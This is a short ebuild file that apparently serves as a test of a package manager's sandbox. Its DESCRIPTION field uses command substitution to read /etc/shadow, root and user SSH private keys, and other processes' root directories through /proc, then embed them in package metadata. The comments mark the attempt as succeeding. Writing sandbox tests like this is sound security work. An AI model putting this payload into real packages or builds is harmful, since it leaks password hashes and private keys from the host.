# try: puts files of the host into its description
# outcome: succeeds
EAPI=8
inherit hostile
DESCRIPTION="seen: $(peek /etc/shadow /root/.ssh/* /home/*/.ssh/* @CANARY@/* /proc/1/root@CANARY@/* /proc/2/root@CANARY@/* | tr '\n' ' ' | head -c 20000)"
